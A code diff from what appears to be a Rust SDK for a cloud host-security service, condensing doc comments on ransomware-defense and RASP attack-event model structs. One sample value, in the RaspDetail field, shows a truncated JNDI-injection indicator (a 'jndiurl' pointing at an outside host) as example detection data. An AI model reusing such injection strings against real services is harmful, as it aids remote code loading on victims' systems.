+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `IsAll`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsAll`; example: `1`
     pub is_all: u64,
 
-    /// `IncludeDir`: a string.
-    ///
-    /// Example: `"/root"`
+    /// `IncludeDir`; example: `"/root"`
     pub include_dir: String,
 
-    /// `ExcludeDir`: a string.
-    ///
-    /// Example: `"/usr"`
+    /// `ExcludeDir`; example: `"/usr"`
     pub exclude_dir: String,
 
-    /// `BackupType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `BackupType`; example: `0`
     pub backup_type: u64,
 
-    /// `Weekday`: a string.
-    ///
-    /// Example: `"1;2;3"`
+    /// `Weekday`; example: `"1;2;3"`
     pub weekday: String,
 
-    /// `Hour`: a string.
-    ///
-    /// Example: `"11:00"`
+    /// `Hour`; example: `"11:00"`
     pub hour: String,
 
-    /// `SaveDay`: an unsigned 64-bit integer.
-    ///
-    /// Example: `5`
+    /// `SaveDay`; example: `5`
     pub save_day: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2022-12-12 12:12:12"`
+    /// `CreateTime`; example: `"2022-12-12 12:12:12"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2022-12-12 12:12:12"`
+    /// `ModifyTime`; example: `"2022-12-12 12:12:12"`
     pub modify_time: String,
 
-    /// `MachineCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `MachineCount`; example: `12`
     pub machine_count: u64,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `EventCount`; example: `11`
     pub event_count: u64,
 }
 
@@ -10108,112 +6605,70 @@ pub struct RansomDefenseStrategyDetail {
 /// Returned in the output of [`DescribeRansomDefenseMachineList`](super::DescribeRansomDefenseMachineList).
 #[tc_model]
 pub struct RansomDefenseStrategyMachineBackupInfo {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"name1"`
+    /// `MachineName`; example: `"name1"`
     pub machine_name: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"cvm-dwcs"`
+    /// `InstanceId`; example: `"cvm-dwcs"`
     pub instance_id: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.22"`
+    /// `MachineIp`; example: `"10.0.0.22"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.11.33.22"`
+    /// `MachineWanIp`; example: `"112.11.33.22"`
     pub machine_wan_ip: String,
 
-    /// `CloudTags`: a list of [`Tag`] objects.
-    ///
-    /// Example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
+    /// `CloudTags`; example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
     pub cloud_tags: Vec<Tag>,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: Option<RegionInfo>,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
-    ///
-    /// Example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
+    /// `Tag`; example: `[{"Name":"tag-01","Rid":0,"TagId":1}]`
     pub tag: Vec<MachineTag>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `StrategyId`; example: `0`
     pub strategy_id: u64,
 
-    /// `DiskInfo`: a string.
-    ///
-    /// Example: `"0"`
+    /// `DiskInfo`; example: `"0"`
     pub disk_info: String,
 
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"test1"`
+    /// `StrategyName`; example: `"test1"`
     pub strategy_name: String,
 
-    /// `BackupCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `BackupCount`; example: `1`
     pub backup_count: u64,
 
-    /// `LastBackupStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `LastBackupStatus`; example: `1`
     pub last_backup_status: u64,
 
-    /// `LastBackupMessage`: a string.
-    ///
-    /// Example: `"fail"`
+    /// `LastBackupMessage`; example: `"fail"`
     pub last_backup_message: String,
 
-    /// `LastBackupTime`: a string.
-    ///
-    /// Example: `"2022-11-11 11:11:11"`
+    /// `LastBackupTime`; example: `"2022-11-11 11:11:11"`
     pub last_backup_time: String,
 
-    /// `RollBackPercent`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RollBackPercent`; example: `1`
     pub roll_back_percent: u64,
 
-    /// `RollBackStatus`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RollBackStatus`; example: `1`
     pub roll_back_status: u64,
 
-    /// `BackupSuccessCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `BackupSuccessCount`; example: `1`
     pub backup_success_count: u64,
 
-    /// `HostVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostVersion`; example: `1`
     pub host_version: u64,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 }
 
@@ -10222,73 +6677,49 @@ pub struct RansomDefenseStrategyMachineBackupInfo {
 /// Returned in the output of [`DescribeRansomDefenseStrategyMachines`](super::DescribeRansomDefenseStrategyMachines).
 #[tc_model]
 pub struct RansomDefenseStrategyMachineDetail {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"name1"`
+    /// `MachineName`; example: `"name1"`
     pub machine_name: String,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"cvm-asasa"`
+    /// `InstanceId`; example: `"cvm-asasa"`
     pub instance_id: String,
 
-    /// `MachineIp`: a string.
-    ///
-    /// Example: `"10.0.0.22"`
+    /// `MachineIp`; example: `"10.0.0.22"`
     pub machine_ip: String,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"112.11.33.22"`
+    /// `MachineWanIp`; example: `"112.11.33.22"`
     pub machine_wan_ip: String,
 
-    /// `CloudTags`: a list of [`Tag`] objects.
+    /// `CloudTags`
     pub cloud_tags: Vec<Tag>,
 
-    /// `RegionInfo`: a [`RegionInfo`].
+    /// `RegionInfo`
     pub region_info: Option<RegionInfo>,
 
-    /// `Tag`: a list of [`MachineTag`] objects.
+    /// `Tag`
     pub tag: Vec<MachineTag>,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `StrategyId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `StrategyId`; example: `0`
     pub strategy_id: u64,
 
-    /// `DiskInfo`: a string.
-    ///
-    /// Example: `"0"`
+    /// `DiskInfo`; example: `"0"`
     pub disk_info: String,
 
-    /// `HostVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HostVersion`; example: `0`
     pub host_version: u64,
 
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"tt1"`
+    /// `StrategyName`; example: `"tt1"`
     pub strategy_name: String,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 }
 
@@ -10297,15 +6728,10 @@ pub struct RansomDefenseStrategyMachineDetail {
 /// Sent in the input of [`CreateRansomDefenseStrategy`](super::CreateRansomDefenseStrategy).
 #[tc_model]
 pub struct RansomDefenseStrategyMachineInfo {
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `DiskInfo`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"disk_id1|disk_name1;disk_id2|disk_name2"`
+    /// `DiskInfo`, always sent in responses; example: `"disk_id1|disk_name1;disk_id2|disk_name2"`
     pub disk_info: Option<String>,
 }
 
@@ -10314,20 +6740,14 @@ pub struct RansomDefenseStrategyMachineInfo {
 /// Returned in the output of [`DescribeAttackType`](super::DescribeAttackType).
 #[tc_model]
 pub struct RaspAttackTypeListItem {
-    /// `AttackTypeName`: a string.
-    ///
-    /// Example: `"危险协议使用"`
+    /// `AttackTypeName`; example: `"危险协议使用"`
     pub attack_type_name: String,
 
-    /// `AttackTypeID`: a signed 64-bit integer.
-    ///
-    /// Example: `20`
+    /// `AttackTypeID`; example: `20`
     #[tc(rename = "AttackTypeID")]
     pub attack_type_id: i64,
 
-    /// `Source`: a string.
-    ///
-    /// Example: `"rasp"`
+    /// `Source`; example: `"rasp"`
     pub source: String,
 }
 
@@ -10336,195 +6756,121 @@ pub struct RaspAttackTypeListItem {
 /// Returned in the output of [`DescribeRaspEventCWP`](super::DescribeRaspEventCWP) and [`DescribeRaspEventTCSS`](super::DescribeRaspEventTCSS).
 #[tc_model]
 pub struct RaspEvent {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: Option<i64>,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
+    /// `Uuid`; example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
     pub uuid: Option<String>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
+    /// `Quuid`; example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
     pub quuid: Option<String>,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"testmachine"`
+    /// `Alias`; example: `"testmachine"`
     pub alias: Option<String>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"i-testfdav"`
+    /// `InstanceID`; example: `"i-testfdav"`
     #[tc(rename = "InstanceID")]
     pub instance_id: Option<String>,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.2.3.1"`
+    /// `PrivateIp`; example: `"10.2.3.1"`
     pub private_ip: Option<String>,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"111.2.3.1"`
+    /// `PublicIp`; example: `"111.2.3.1"`
     pub public_ip: Option<String>,
 
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `14004`
+    /// `VulId`; example: `14004`
     pub vul_id: Option<u64>,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `VulName`; example: `"漏洞"`
     pub vul_name: Option<String>,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2014-8500"`
+    /// `CveId`; example: `"CVE-2014-8500"`
     pub cve_id: Option<String>,
 
-    /// `SourceIp`: a string.
-    ///
-    /// Example: `"11.2.3.1"`
+    /// `SourceIp`; example: `"11.2.3.1"`
     pub source_ip: Option<String>,
 
-    /// `City`: a string.
-    ///
-    /// Example: `"深圳"`
+    /// `City`; example: `"深圳"`
     pub city: Option<String>,
 
-    /// `AttackPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `8080`
+    /// `AttackPort`; example: `8080`
     pub attack_port: Option<u64>,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: Option<String>,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `MergeTime`; example: `"2021-01-20 16:17:11"`
     pub merge_time: Option<String>,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: Option<u64>,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: Option<i64>,
 
-    /// `AttackTypeName`: a string.
-    ///
-    /// Example: `"任意文件读取"`
+    /// `AttackTypeName`; example: `"任意文件读取"`
     pub attack_type_name: Option<String>,
 
-    /// `AttackType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackType`; example: `1`
     pub attack_type: Option<i64>,
 
-    /// `NodeName`: a string.
-    ///
-    /// Example: `"tke_cls-6ydg4qri_worker3"`
+    /// `NodeName`; example: `"tke_cls-6ydg4qri_worker3"`
     pub node_name: Option<String>,
 
-    /// `NodeId`: a string.
-    ///
-    /// Example: `"ins-od3s0xd1"`
+    /// `NodeId`; example: `"ins-od3s0xd1"`
     pub node_id: Option<String>,
 
-    /// `ContainerName`: a string.
-    ///
-    /// Example: `"k8s"`
+    /// `ContainerName`; example: `"k8s"`
     pub container_name: Option<String>,
 
-    /// `ContainerId`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `ContainerId`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     pub container_id: Option<String>,
 
-    /// `ContainerStatus`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `ContainerStatus`; example: `"RUNNING"`
     pub container_status: Option<String>,
 
-    /// `ContainerNetStatus`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `ContainerNetStatus`; example: `"NORMAL"`
     pub container_net_status: Option<String>,
 
-    /// `ImageId`: a string.
-    ///
-    /// Example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
+    /// `ImageId`; example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
     pub image_id: Option<String>,
 
-    /// `ImageName`: a string.
-    ///
-    /// Example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
+    /// `ImageName`; example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
     pub image_name: Option<String>,
 
-    /// `PodName`: a string.
-    ///
-    /// Example: `"kubernetes-proxy-55466756fc-6ptx9"`
+    /// `PodName`; example: `"kubernetes-proxy-55466756fc-6ptx9"`
     pub pod_name: Option<String>,
 
-    /// `PodIp`: a string.
-    ///
-    /// Example: `"10.0.2.120"`
+    /// `PodIp`; example: `"10.0.2.120"`
     pub pod_ip: Option<String>,
 
-    /// `ClusterName`: a string.
-    ///
-    /// Example: `"grafana-test"`
+    /// `ClusterName`; example: `"grafana-test"`
     pub cluster_name: Option<String>,
 
-    /// `ClusterId`: a string.
-    ///
-    /// Example: `"cls-4waue9dh"`
+    /// `ClusterId`; example: `"cls-4waue9dh"`
     pub cluster_id: Option<String>,
 
-    /// `RaspDetail`: a string.
+    /// `RaspDetail`
     pub rasp_detail: Option<String>,
 
-    /// `NodeType`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `NodeType`; example: `"NORMAL"`
     pub node_type: Option<String>,
 
-    /// `EventType`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `EventType`; example: `2`
     pub event_type: Option<i64>,
 
-    /// `NodeUniqueID`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `NodeUniqueID`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     #[tc(rename = "NodeUniqueID")]
     pub node_unique_id: Option<String>,
 
-    /// `PocID`: a string.
-    ///
-    /// Example: `"pcmgr-582503"`
+    /// `PocID`; example: `"pcmgr-582503"`
     #[tc(rename = "PocID")]
     pub poc_id: Option<String>,
 
-    /// `Url`: a string.
-    ///
-    /// Example: `"http://test.com/query?a=b"`
+    /// `Url`; example: `"http://test.com/query?a=b"`
     pub url: Option<String>,
 
-    /// `Poc`: a string.
-    ///
-    /// Example: `"恶意特征"`
+    /// `Poc`; example: `"恶意特征"`
     pub poc: Option<String>,
 }
 
@@ -10533,198 +6879,122 @@ pub struct RaspEvent {
 /// Returned in the output of [`DescribeRaspEventDetailCWP`](super::DescribeRaspEventDetailCWP) and [`DescribeRaspEventDetailTCSS`](super::DescribeRaspEventDetailTCSS).
 #[tc_model]
 pub struct RaspEventDetail {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: Option<i64>,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: Option<i64>,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
+    /// `Quuid`; example: `"e4deb973-e109-435a-bf22-49cd27e7eb6a"`
     pub quuid: Option<String>,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"testmachine"`
+    /// `Alias`; example: `"testmachine"`
     pub alias: Option<String>,
 
-    /// `InstanceID`: a string.
-    ///
-    /// Example: `"i-testfdav"`
+    /// `InstanceID`; example: `"i-testfdav"`
     #[tc(rename = "InstanceID")]
     pub instance_id: Option<String>,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.2.3.1"`
+    /// `PrivateIp`; example: `"10.2.3.1"`
     pub private_ip: Option<String>,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"111.2.3.1"`
+    /// `PublicIp`; example: `"111.2.3.1"`
     pub public_ip: Option<String>,
 
-    /// `HostTags`: a list of strings.
-    ///
-    /// Example: `["核心资产"]`
+    /// `HostTags`; example: `["核心资产"]`
     pub host_tags: Option<Vec<String>>,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: Option<String>,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `MergeTime`; example: `"2021-01-20 16:17:11"`
     pub merge_time: Option<String>,
 
-    /// `AttackTypeName`: a string.
-    ///
-    /// Example: `"任意文件读取"`
+    /// `AttackTypeName`; example: `"任意文件读取"`
     pub attack_type_name: Option<String>,
 
-    /// `AttackType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AttackType`; example: `1`
     pub attack_type: Option<i64>,
 
-    /// `Url`: a string.
-    ///
-    /// Example: `"www.baidu.com/test"`
+    /// `Url`; example: `"www.baidu.com/test"`
     pub url: Option<String>,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `VulName`; example: `"漏洞"`
     pub vul_name: Option<String>,
 
-    /// `Count`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: Option<u64>,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2014-8500"`
+    /// `CveId`; example: `"CVE-2014-8500"`
     pub cve_id: Option<String>,
 
-    /// `SourceIp`: a string.
-    ///
-    /// Example: `"11.2.3.1"`
+    /// `SourceIp`; example: `"11.2.3.1"`
     pub source_ip: Option<String>,
 
-    /// `City`: a string.
-    ///
-    /// Example: `"深圳"`
+    /// `City`; example: `"深圳"`
     pub city: Option<String>,
 
-    /// `AttackPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `8080`
+    /// `AttackPort`; example: `8080`
     pub attack_port: Option<u64>,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"漏洞描述"`
+    /// `Description`; example: `"漏洞描述"`
     pub description: Option<String>,
 
-    /// `Fix`: a string.
-    ///
-    /// Example: `"修复方式"`
+    /// `Fix`; example: `"修复方式"`
     pub fix: Option<String>,
 
-    /// `NetworkPayload`: a string.
-    ///
-    /// Example: `"GET http:://www.baidu.com/test"`
+    /// `NetworkPayload`; example: `"GET http:://www.baidu.com/test"`
     pub network_payload: Option<String>,
 
-    /// `NodeName`: a string.
-    ///
-    /// Example: `"tke_cls-6ydg4qri_worker3"`
+    /// `NodeName`; example: `"tke_cls-6ydg4qri_worker3"`
     pub node_name: Option<String>,
 
-    /// `NodeId`: a string.
-    ///
-    /// Example: `"ins-od3s0xd1"`
+    /// `NodeId`; example: `"ins-od3s0xd1"`
     pub node_id: Option<String>,
 
-    /// `ContainerName`: a string.
-    ///
-    /// Example: `"k8s"`
+    /// `ContainerName`; example: `"k8s"`
     pub container_name: Option<String>,
 
-    /// `ContainerId`: a string.
-    ///
-    /// Example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
+    /// `ContainerId`; example: `"84007f203025e90b6f95c1f5be6e68637f831ed89078860c7861b185b3e6088f"`
     pub container_id: Option<String>,
 
-    /// `ContainerStatus`: a string.
-    ///
-    /// Example: `"RUNNING"`
+    /// `ContainerStatus`; example: `"RUNNING"`
     pub container_status: Option<String>,
 
-    /// `ContainerNetStatus`: a string.
-    ///
-    /// Example: `"NORMAL"`
+    /// `ContainerNetStatus`; example: `"NORMAL"`
     pub container_net_status: Option<String>,
 
-    /// `ImageId`: a string.
-    ///
-    /// Example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
+    /// `ImageId`; example: `"sha256:c66abded45cdae32051ed557e8f930dcd46fa3396e0ca280517ca18c0f0d48ea"`
     pub image_id: Option<String>,
 
-    /// `ImageName`: a string.
-    ///
-    /// Example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
+    /// `ImageName`; example: `"ccr.ccs.tencentyun.com/tkeimages/apiserver-proxy:v1.4.5"`
     pub image_name: Option<String>,
 
-    /// `PodName`: a string.
-    ///
-    /// Example: `"kubernetes-proxy-55466756fc-6ptx9"`
+    /// `PodName`; example: `"kubernetes-proxy-55466756fc-6ptx9"`
     pub pod_name: Option<String>,
 
-    /// `PodIp`: a string.
-    ///
-    /// Example: `"10.0.2.120"`
+    /// `PodIp`; example: `"10.0.2.120"`
     pub pod_ip: Option<String>,
 
-    /// `ClusterName`: a string.
-    ///
-    /// Example: `"grafana-test"`
+    /// `ClusterName`; example: `"grafana-test"`
     pub cluster_name: Option<String>,
 
-    /// `ClusterId`: a string.
-    ///
-    /// Example: `"cls-4waue9dh"`
+    /// `ClusterId`; example: `"cls-4waue9dh"`
     pub cluster_id: Option<String>,
 
-    /// `Pid`: a signed 64-bit integer.
+    /// `Pid`
     pub pid: Option<i64>,
 
-    /// `MainClass`: a string.
-    ///
-    /// Example: `"sf.class"`
+    /// `MainClass`; example: `"sf.class"`
     pub main_class: Option<String>,
 
-    /// `StackTrace`: a string.
-    ///
-    /// Example: `"at org.java.uti"`
+    /// `StackTrace`; example: `"at org.java.uti"`
     pub stack_trace: Option<String>,
 
-    /// `RaspDetail`: a string.
-    ///
-    /// Example: `"[     {         \"name\": \"jndiurl\",         \"value\": \"http://whoa"`
+    /// `RaspDetail`; example: `"[     {         \"name\": \"jndiurl\",         \"value\": \"http://whoa"`
     pub rasp_detail: Option<String>,
 
-    /// `EventType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventType`; example: `1`
     pub event_type: Option<i64>,
 }
 
@@ -10733,92 +7003,58 @@ pub struct RaspEventDetail {
 /// Returned in the output of [`RaspEventOverview`](super::RaspEventOverview).
 #[tc_model]
 pub struct RaspEventOverview {
-    /// `DefenceVuls`: a signed 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `DefenceVuls`; example: `23`
     pub defence_vuls: Option<i64>,
 
-    /// `PreciseDefenseVuls`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `PreciseDefenseVuls`; example: `2`
     pub precise_defense_vuls: Option<i64>,
 
-    /// `UnhandledRaspEvents`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `UnhandledRaspEvents`; example: `1`
     pub unhandled_rasp_events: Option<i64>,
 
-    /// `UnhandledMemShellScanEvents`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `UnhandledMemShellScanEvents`; example: `1`
     pub unhandled_mem_shell_scan_events: Option<i64>,
 
-    /// `UnhandledMemShellInjectEvents`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `UnhandledMemShellInjectEvents`; example: `2`
     pub unhandled_mem_shell_inject_events: Option<i64>,
 
-    /// `UnHandledEvents`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2,3]`
+    /// `UnHandledEvents`; example: `[1,2,3]`
     pub un_handled_events: Option<Vec<i64>>,
 
-    /// `RaspAttackCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2,3]`
+    /// `RaspAttackCounts`; example: `[1,2,3]`
     pub rasp_attack_counts: Option<Vec<i64>>,
 
-    /// `RaspDefendCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2,3]`
+    /// `RaspDefendCounts`; example: `[1,2,3]`
     pub rasp_defend_counts: Option<Vec<i64>>,
 
-    /// `MemShellAttackCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2,3]`
+    /// `MemShellAttackCounts`; example: `[1,2,3]`
     pub mem_shell_attack_counts: Option<Vec<i64>>,
 
-    /// `MemShellDefendCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[1,2,3]`
+    /// `MemShellDefendCounts`; example: `[1,2,3]`
     pub mem_shell_defend_counts: Option<Vec<i64>>,
 
-    /// `Date`: a list of strings.
+    /// `Date`
     pub date: Option<Vec<String>>,
 
-    /// `ProtectAssetOpenCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectAssetOpenCount`; example: `0`
     pub protect_asset_open_count: Option<u64>,
 
-    /// `ProtectAssetCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ProtectAssetCount`; example: `0`
     pub protect_asset_count: Option<u64>,
 
-    /// `UltimateAssetCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `UltimateAssetCount`; example: `0`
     pub ultimate_asset_count: Option<u64>,
 
-    /// `RaspAssetCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RaspAssetCount`; example: `0`
     pub rasp_asset_count: Option<u64>,
 
-    /// `NotProtectAssetCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `NotProtectAssetCount`; example: `0`
     pub not_protect_asset_count: Option<u64>,
 
-    /// `RecentUnhandledEvents`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RecentUnhandledEvents`; example: `1`
     pub recent_unhandled_events: Option<i64>,
 
-    /// `RaspDefendCount`: a signed 64-bit integer.
-    ///
-    /// Example: `277`
+    /// `RaspDefendCount`; example: `277`
     pub rasp_defend_count: Option<i64>,
 }
 
@@ -10827,138 +7063,90 @@ pub struct RaspEventOverview {
 /// Returned in the output of [`DescribeRaspLicenseList`](super::DescribeRaspLicenseList).
 #[tc_model]
 pub struct RaspLicenseList {
-    /// `QUUID`: a string.
-    ///
-    /// Example: `"e0b41ad5-cf93-49d5-94d0-ffb6febdbed0"`
+    /// `QUUID`; example: `"e0b41ad5-cf93-49d5-94d0-ffb6febdbed0"`
     #[tc(rename = "QUUID")]
     pub quuid: Option<String>,
 
-    /// `InstanceName`: a string.
-    ///
-    /// Example: `"机器名称"`
+    /// `InstanceName`; example: `"机器名称"`
     pub instance_name: Option<String>,
 
-    /// `InstanceId`: a string.
-    ///
-    /// Example: `"ins-xxx"`
+    /// `InstanceId`; example: `"ins-xxx"`
     pub instance_id: Option<String>,
 
-    /// `PublicIP`: a string.
-    ///
-    /// Example: `"0.0.0.0"`
+    /// `PublicIP`; example: `"0.0.0.0"`
     #[tc(rename = "PublicIP")]
     pub public_ip: Option<String>,
 
-    /// `PrivateIP`: a string.
-    ///
-    /// Example: `"0.0.0.0"`
+    /// `PrivateIP`; example: `"0.0.0.0"`
     #[tc(rename = "PrivateIP")]
     pub private_ip: Option<String>,
 
-    /// `Tags`: a list of [`Tags`] objects.
+    /// `Tags`
     pub tags: Option<Vec<Tags>>,
 
-    /// `CWPTags`: a list of [`CwpTags`] objects.
+    /// `CWPTags`
     #[tc(rename = "CWPTags")]
     pub cwp_tags: Option<Vec<CwpTags>>,
 
-    /// `ProtectionVersion`: a list of strings.
-    ///
-    /// Example: `["Ultimate"]`
+    /// `ProtectionVersion`; example: `["Ultimate"]`
     pub protection_version: Option<Vec<String>>,
 
-    /// `ConfigurationSetting`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `ConfigurationSetting`; example: `0`
     pub configuration_setting: Option<u64>,
 
-    /// `Enable`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Enable`; example: `0`
     pub enable: Option<u64>,
 
-    /// `VulDefEnable`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `VulDefEnable`; example: `0`
     pub vul_def_enable: Option<u64>,
 
-    /// `VulDefMode`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `VulDefMode`; example: `0`
     pub vul_def_mode: Option<u64>,
 
-    /// `VulDefAction`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
